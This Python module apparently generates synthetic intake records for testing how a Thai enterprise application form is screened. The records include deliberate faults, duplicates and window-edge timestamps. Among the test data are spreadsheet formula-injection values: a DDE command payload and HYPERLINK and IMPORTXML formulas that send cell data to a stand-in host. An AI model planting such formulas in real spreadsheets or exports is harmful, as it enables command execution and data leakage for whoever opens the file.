"""The intake file: records in the order in which the form received them, and what screening must say of each."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, replace
from datetime import date, datetime, timedelta
from random import Random

from season.synthetic import spelling
from season.synthetic.enterprises import QUESTIONS, Enterprise
from season.synthetic.faults import BEFORE, CLEAN, ESSENTIAL, EVERY, LARGE, NUMBERS, UNREADABLE, Cells, Fault

KEYS = (
    "submitted_at",
    "tax_id",
    "kind",
    "name_th",
    "name_en",
    "province",
    "district",
    "postcode",
    "sector",
    "tsic",
    "employees",
    "revenue",
    "started_on",
    "contact_name",
    "phone",
    "email",
    "line_id",
    "consent_core",
    "consent_publicity",
    *QUESTIONS,
)
HEADINGS = (
    "ประทับเวลา",
    "เลขทะเบียน/เลขประจำตัวผู้เสียภาษี 13 หลัก",
    "ประเภทกิจการ",
    "ชื่อกิจการ",
    "ชื่อภาษาอังกฤษ",
    "จังหวัด",
    "อำเภอ",
    "รหัสไปรษณีย์",
    "กลุ่มธุรกิจ",
    "รหัส TSIC",
    "จำนวนพนักงาน",
    "รายได้ต่อปี (บาท)",
    "วันที่เริ่มกิจการ",
    "ชื่อผู้ติดต่อ",
    "โทรศัพท์",
    "อีเมล",
    "LINE ID",
    "ยินยอม (core)",
    "ยินยอมเผยแพร่ (publicity)",
    *QUESTIONS,
)
KINDS = {"juristic": "นิติบุคคล", "natural": "บุคคลธรรมดา"}

FORMULAS = (
    ("line_id", "=cmd|' /C notepad'!A0"),
    ("email", '=HYPERLINK("http://sample.invalid/?q="&B2,"เปิดดู")'),
    ("name_en", "+SUM(1,2) Sample"),
    ("name_th", "@บ้านตัวอย่าง คาเฟ่"),
    ("name_th", '=IMPORTXML("http://sample.invalid","//a") ตัวอย่าง'),
)
"""Cells that a spreadsheet would run: data to us."""


@dataclass(frozen=True, slots=True)
class Window:
    """When the call takes applications; both ends included."""

    opens_at: datetime
    closes_at: datetime

    @property
    def opening(self) -> date:
        """The opening day, as Asia/Bangkok counts days."""
        return self.opens_at.date()


@dataclass(frozen=True, slots=True)
class Record:
    """One record of the form with the answers that it must get. ``row`` counts from 1 in file order."""

    row: int
    at: datetime
    enterprise: Enterprise
    cells: Cells
    number: str | None
    reasons: tuple[str, ...]
    fields: tuple[str, ...]
    superseded_by: int | None = None

    @property
    def eligible(self) -> bool:
        """No reason against it."""
        return not self.reasons


@dataclass(frozen=True, slots=True)
class _Sent:
    """A record before the file is put in order."""

    at: datetime
    enterprise: Enterprise
    fault: Fault


def records(rng: Random, supply: Iterator[Enterprise], window: Window, count: int) -> list[Record]:
    """``count`` records in the form's order: the essential faults and stories first, then mostly clean ones."""
    sent: list[_Sent] = []
    for fault in ESSENTIAL:
        sent.append(_single(rng, next(supply), window, fault))
    for story in _stories():
        sent.extend(_told(rng, next(supply), window, story))
    sent.extend(_twins(rng, supply, window))
    while len(sent) < count:
        chance = rng.random()
        if chance < 0.04 and len(sent) + 3 <= count:
            sent.extend(_told(rng, next(supply), window, rng.choice(_stories())))
        else:
            fault = rng.choice(EVERY) if chance < 0.2 and len(sent) > 60 else CLEAN
            sent.append(_single(rng, next(supply), window, fault))
    sent.sort(key=lambda one: one.at)
    return _superseded(_recorded(rng, sent, window))


def _stories() -> tuple[tuple[Fault, ...], ...]:
    """What one enterprise sends, in order, when it applies more than once."""
    return (
        (CLEAN, CLEAN),
        (UNREADABLE[1], CLEAN),
        (CLEAN, UNREADABLE[2]),
        (CLEAN, LARGE),
        (BEFORE, CLEAN),
        (NUMBERS[0], NUMBERS[0]),
        (CLEAN, CLEAN, CLEAN),
    )


def _single(rng: Random, enterprise: Enterprise, window: Window, fault: Fault) -> _Sent:
    return _Sent(_moment(rng, window, fault.at), fault.real(rng, enterprise, window.opening), fault)


def _told(rng: Random, enterprise: Enterprise, window: Window, story: tuple[Fault, ...]) -> list[_Sent]:
    inside = iter(sorted(_moment(rng, window, "inside") for _ in story))
    return [
        _Sent(
            next(inside) if fault.at == "inside" else _moment(rng, window, fault.at),
            fault.real(rng, enterprise, window.opening),
            fault,
        )
        for fault in story
    ]


def _twins(rng: Random, supply: Iterator[Enterprise], window: Window) -> list[_Sent]:
    """Two neighbours in the same second, and the first and the last second of the window: where rules stumble."""
    second = _moment(rng, window, "inside")
    first = next(supply)
    neighbour = next(other for other in supply if other.province is first.province)
    edges = ((window.opens_at, next(supply)), (window.closes_at, next(supply)))
    return [_Sent(at, enterprise, CLEAN) for at, enterprise in ((second, first), (second, neighbour), *edges)]


def _moment(rng: Random, window: Window, at: str) -> datetime:
    if at == "before":
        return window.opens_at - timedelta(seconds=rng.randrange(1, 5 * 86_400))
    if at == "after":
        return window.closes_at + timedelta(seconds=rng.randrange(1, 4 * 86_400))
    return window.opens_at + timedelta(seconds=rng.randrange(int((window.closes_at - window.opens_at).total_seconds())))


def _recorded(rng: Random, sent: list[_Sent], window: Window) -> list[Record]:
    made = []
    formulas = iter(FORMULAS)
    for row, one in enumerate(sent, start=1):
        cells = _typed(rng, one)
        if one.fault is CLEAN and row % 4 == 0 and (formula := next(formulas, None)):
            cells.update([formula])
        one.fault.spoil(rng, cells)
        number = None if "tax_id" in one.fault.fields else _normal(cells["tax_id"])
        made.append(Record(row, one.at, one.enterprise, cells, number, one.fault.reasons, one.fault.fields))
    return made


def _typed(rng: Random, one: _Sent) -> Cells:
    it = one.enterprise
    cells = {
        "submitted_at": spelling.clock(rng, one.at),
        "tax_id": spelling.number(rng, it.number),
        "kind": spelling.padded(rng, KINDS[it.kind]),
        "name_th": spelling.padded(rng, it.name_th),
        "name_en": it.name_en if rng.random() < 0.8 else rng.choice(("", "-")),
        "province": spelling.province(rng, it.province),
        "district": spelling.district(rng, it.district),
        "postcode": it.postcode,
        "sector": spelling.sector(rng, it.sector),
        "tsic": it.tsic if rng.random() < 0.9 else rng.choice(("", "-", it.tsic[:4], "ไม่ทราบ")),
        "employees": spelling.staff(rng, it.employees),
        "revenue": spelling.revenue(rng, it.revenue),
        "started_on": spelling.day(rng, it.started_on),
        "contact_name": spelling.padded(rng, it.contact),
        "phone": spelling.thai_digits(it.phone) if rng.random() < 0.06 else it.phone,
        "email": it.email,
        "line_id": it.line_id or rng.choice(("", "-", "ไม่มี")),
        "consent_core": spelling.padded(rng, rng.choice(spelling.YES)),
        "consent_publicity": rng.choice(spelling.YES if it.publicity else spelling.NO),
    }
    cells.update({key: spelling.mark(rng, value) for key, value in zip(QUESTIONS, it.answers, strict=True)})
    return cells


def _normal(typed: str) -> str:
    western = typed.translate(str.maketrans("๐๑๒๓๔๕๖๗๘๙", "0123456789"))
    return "".join(letter for letter in western if letter.isdigit())


def _superseded(records: list[Record]) -> list[Record]:
    """Within the window the last complete record of a number counts; every one before it is a duplicate."""
    last: dict[str, int] = {}
    for record in records:
        if record.number and "outside_window" not in record.reasons and "incomplete" not in record.reasons:
            last[record.number] = record.row
    return [
        replace(record, reasons=(*record.reasons, "duplicate"), superseded_by=last[record.number])
        if record.number and "outside_window" not in record.reasons and record.row < last.get(record.number, 0)
        else record
        for record in records
    ]
